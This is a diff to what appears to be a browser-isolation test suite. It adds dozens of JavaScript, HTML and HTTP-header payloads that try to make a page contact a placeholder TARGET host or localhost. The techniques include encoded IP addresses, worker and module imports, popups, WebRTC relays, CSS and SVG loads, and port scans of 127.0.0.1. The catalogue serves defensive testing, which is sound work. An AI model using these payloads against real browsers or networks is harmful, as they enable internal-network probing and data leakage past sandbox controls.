@@ -113,6 +113,51 @@ SCRIPTS = {
     "try { x.send() } catch (e) {}",
     "local network scan": "for (const h of ['10.0.0.1', '192.168.1.1', '169.254.169.254', '172.16.0.1', '100.64.0.1'])"
     "fetch(`http://${h}/`, {mode: 'no-cors'})",
+    "ideographic stops": "fetch('http://127。0。0。1:PORT/',{mode:'no-cors'})",
+    "circled digits": "fetch('http://①②⑦.0.0.1:PORT/',{mode:'no-cors'})",
+    "percent host": "fetch('http://%31%32%37.0.0.1:PORT/',{mode:'no-cors'})",
+    "userinfo with at": "new Image().src='http://good0.test@127.0.0.1:PORT/'",
+    "scheme relative": "new Image().src='//127.0.0.1:PORT/x'",
+    "translated": "fetch('http://[::ffff:0:127.0.0.1]:PORT/',{mode:'no-cors'})",
+    "teredo": "fetch('http://[2001:0:7f00:1::80ff:fffe]:PORT/',{mode:'no-cors'})",
+    "module worker import": "new Worker(URL.createObjectURL(new Blob(['import \"http://TARGET/x.js\"'],{t"
+    "ype:'text/javascript'})),{type:'module'})",
+    "nested data worker": 'new Worker(\'data:text/javascript,fetch("http://TARGET/",{mode:"no-cors"});'
+    'new WebSocket("ws://TARGET/")\')',
+    "worker eventsource": "new Worker(URL.createObjectURL(new Blob(['new EventSource(\"http://TARGET/\")'])))",
+    "worker redirect import": 'new Worker(URL.createObjectURL(new Blob([`importScripts("${location.origin'
+    '}/redirect")`])))',
+    "javascript frame": "f=document.createElement('iframe');f.src=\"javascript:fetch('http://TARGET/"
+    "',{mode:'no-cors'});new WebSocket('ws://TARGET/')\";document.body.append(f)",
+    "popup document write": "w=window.open('');w&&w.document.write('<img src=http://TARGET/p>')",
+    "popup data": "window.open('data:text/html,<img src=http://TARGET/>')",
+    "popup blob": "window.open(URL.createObjectURL(new Blob(['<img src=http://TARGET/>'],{type:'text/html'})))",
+    "navigation api": "window.navigation&&navigation.navigate('http://TARGET/')",
+    "form in popup": "add('<form target=_blank method=post action=http://TARGET/></form>');document.forms[0].submit()",
+    "connect ports": "for(const p of [22,25,6379,5432,11211,PORT])fetch(`https://127.0.0.1:${p}/"
+    "`,{mode:'no-cors'}).catch(()=>0)",
+    "host header": "fetch('/x',{headers:{'Host':'TARGET','Forwarded':'host=TARGET','Proxy-Auth"
+    "orization':'Basic eDp5'}})",
+    "streaming upload": "fetch('http://TARGET/',{method:'POST',duplex:'half',mode:'no-cors',body:ne"
+    "w ReadableStream({start(c){c.enqueue(new Uint8Array([1]));c.close()}})}).c"
+    "atch(()=>0)",
+    "websocket scan": "for(let p=PORT-5;p<PORT+5;p++){try{new WebSocket(`ws://127.0.0.1:${p}/`)}catch(e){}}",
+    "webrtc mdns": "rtc([],'candidate:1 1 udp 2122260223 0e1b2c3d-1111-2222-3333-444455556666.local PORT typ host')",
+    "webrtc relay only": "p=new RTCPeerConnection({iceServers:[{urls:['turn:TARGET?transport=udp','t"
+    "urn:TARGET?transport=tcp','turns:TARGET'],username:'u',credential:'p'}],ic"
+    "eTransportPolicy:'relay'});p.createDataChannel('x');p.createOffer().then(o"
+    "=>p.setLocalDescription(o))",
+    "webrtc ipv6": "rtc([{urls:'stun:[::1]:PORT'}],'candidate:1 1 udp 2122260223 ::1 PORT typ host')",
+    "webrtc in a frame": "add('<iframe srcdoc=\"<script>p=new RTCPeerConnection({iceServers:[{urls:`s"
+    "tun:TARGET`}]});p.createDataChannel(`x`);p.createOffer().then(o=>p.setLoca"
+    "lDescription(o))<\\/script>\"></iframe>')",
+    "constructed sheet": "s=new CSSStyleSheet();s.replace('@import url(http://TARGET/);body{backgrou"
+    "nd:url(http://TARGET/b)}').catch(()=>0);document.adoptedStyleSheets=[s]",
+    "font face api": "new FontFace('x','url(http://TARGET/f)').load().catch(()=>0)",
+    "filters and masks": "document.body.style.filter='url(http://TARGET/f.svg#f)';document.body.styl"
+    "e.maskImage='url(http://TARGET/m)';document.body.style.clipPath='url(http:"
+    "//TARGET/c.svg#c)'",
+    "download via blob name": "add('<a id=a href=/redirect download=x>x</a>');document.getElementById('a').click()",
 }
 
 #: Run as scripts of https pages, which may do more.
@@ -174,6 +219,41 @@ MARKUP = {
     "frames of old": "<applet archive=http://TARGET/ code=x></applet><bgsound src=http://TARGET/>",
     "refresh": "<meta http-equiv=refresh content='0; url=http://TARGET/'>",
     "base": "<base href=http://TARGET/><script src=x.js></script>",
+    "svg feimage": "<svg><filter id=f><feImage href=http://TARGET/ /></filter><rect width=9 he"
+    "ight=9 filter=url(#f) /></svg>",
+    "svg script": "<svg><script href=http://TARGET/x.js></script><a href=http://TARGET/><text>x</text></a></svg>",
+    "svg animate href": "<svg><image><animate attributeName=href to=http://TARGET/ begin=0s /></image></svg>",
+    "svg as image": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><imag"
+    "e href='http://TARGET/'/></svg>\">",
+    "xml stylesheet frame": '<iframe src=\'data:text/xml,<?xml-stylesheet href="http://TARGET/x.xsl" typ'
+    'e="text/xsl"?><a/>\'></iframe>',
+    "xhtml dtd frame": "<iframe src='data:application/xhtml+xml,<!DOCTYPE html SYSTEM \"http://TARG"
+    'ET/x.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><img src="http:'
+    "//TARGET/\"/></body></html>'></iframe>",
+    "frameset": "<iframe srcdoc='<frameset><frame src=http://TARGET/></frameset>'></iframe>",
+    "refresh in frame": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=http://TARGET/'>\"></iframe>",
+    "input image": "<input type=image src=http://TARGET/><body background=http://TARGET/b><tab"
+    "le background=http://TARGET/t><td background=http://TARGET/d>",
+    "preload as all": "<link rel=preload as=script href=http://TARGET/script><link rel=preload as"
+    "=style href=http://TARGET/style><link rel=preload as=font href=http://TARG"
+    "ET/font><link rel=preload as=image href=http://TARGET/image><link rel=prel"
+    "oad as=video href=http://TARGET/video><link rel=preload as=audio href=http"
+    "://TARGET/audio><link rel=preload as=track href=http://TARGET/track><link "
+    "rel=preload as=document href=http://TARGET/document><link rel=preload as=w"
+    "orker href=http://TARGET/worker><link rel=preload as=embed href=http://TAR"
+    "GET/embed><link rel=preload as=object href=http://TARGET/object><link rel="
+    "preload as=json href=http://TARGET/json>",
+    "speculation document rules": '<script type=speculationrules>{"prerender":[{"source":"document","eagernes'
+    's":"immediate"}],"prefetch":[{"source":"document","eagerness":"immediate"}'
+    "]}</script><a href=http://TARGET/>x</a><a href=/redirect>y</a>",
+    "shadow root": "<div><template shadowrootmode=open><link rel=stylesheet href=http://TARGET"
+    "/><img src=http://TARGET/><script>new WebSocket('ws://TARGET/')</script></"
+    "template></div>",
+    "object codebase": "<object codebase=http://TARGET/ data=x classid=http://TARGET/c><param name"
+    "=src value=http://TARGET/p></object>",
+    "import json css": "<script type=module>import j from 'http://TARGET/j' with {type:'json'}</sc"
+    "ript><script type=module>import c from 'http://TARGET/c' with {type:'css'}"
+    "</script>",
 }
 
 #: Headers of the page make the browser send something.
@@ -197,6 +277,13 @@ HEADERS = {
     },
     "transport security": {"Strict-Transport-Security": "max-age=9999; includeSubDomains; preload"},
     "alternative": {"Alt-Svc": 'h3="TARGET"; ma=999, h2="TARGET"; ma=999', "Refresh": "9; url=http://TARGET/"},
+    "refresh header": {"Refresh": "0; url=http://TARGET/"},
+    "document policy report": {
+        "Document-Policy-Report-Only": "force-load-at-top; report-to=default",
+        "Reporting-Endpoints": 'default="http://TARGET/r"',
+        "Cross-Origin-Embedder-Policy": 'require-corp; report-to="default"',
+        "Cross-Origin-Opener-Policy": 'same-origin; report-to="default"',
+    },
 }
 
 #: Helpers of the scripts.
